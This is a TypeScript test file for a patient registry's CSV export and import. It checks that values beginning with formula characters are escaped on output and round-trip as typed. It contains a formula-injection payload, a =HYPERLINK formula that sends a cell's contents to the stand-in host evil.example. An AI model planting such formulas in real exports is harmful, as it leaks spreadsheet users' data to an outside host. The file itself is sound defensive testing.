import Papa from 'papaparse';
import { afterAll, beforeEach, describe, expect, it } from 'vitest';
import { writeCsv } from '@/lib/csv/write';
import { templateCsv } from '@/lib/registry/csv';
import { importCases } from '@/lib/services/import';
import { createPatient, getPatient } from '@/lib/services/patients';
import { makeRegistryPractice, openServices, patientInput, resetData } from '../support/db';

/**
 * Issue 9 item 10 (OWASP "CSV Injection"): a value beginning with = + - @ tab or CR is stored as
 * typed, and escaped in every CSV Lamina writes (lib/csv/write.ts, the one writer); a file Lamina
 * wrote reads back as typed.
 */
const services = await openServices();
afterAll(() => services.close());
beforeEach(() => resetData(services.orm, services.redis));

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")';

describe('spreadsheet formulas are neutralised on the way out', () => {
  it('a formula typed into a patient is stored as typed', async () => {
    const p = await makeRegistryPractice(services.em(), 'csvinj');
    const created = await createPatient(services.em(), p.coordinator, patientInput({ givenName: HYPERLINK, familyName: '@SUM(1+1)' }));
    expect(await getPatient(services.em(), p.coordinator, created.id)).toMatchObject({ givenName: HYPERLINK, familyName: '@SUM(1+1)' });
  });

  it('round-trips =HYPERLINK(...): escaped in the written file, imported back as typed', async () => {
    const p = await makeRegistryPractice(services.em(), 'csvinj');
    const [header, example] = Papa.parse<string[]>(templateCsv().trim()).data as [string[], string[]];
    const row: string[] = [...example];
    row[header.indexOf('operator_email')] = 'cal@csvinj.test';
    row[header.indexOf('given_name')] = HYPERLINK;
    row[header.indexOf('referrer_practice')] = '+Gullsett Dental';
    const file = writeCsv(header, [row]);

    // What a spreadsheet reads: no cell begins with a formula character.
    const cells = Papa.parse<string[]>(file.trim()).data.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toContain(`'${HYPERLINK}`);

    const result = await importCases(services.em(), p.coordinator, { mode: 'commit', csv: file }, { today: '2026-01-01' });
    expect(result.errors).toEqual([]);
    expect(result.committed).toBe(true);
    const stored = await services.em().getKnex()('patient').where({ registry_number: 'EB-000123' }).first('given_name');
    expect(stored).toEqual({ given_name: HYPERLINK });
    const referrer = await services.em().getKnex()('referrer').first('practice_name');
    expect(referrer).toEqual({ practice_name: '+Gullsett Dental' });
  });

});
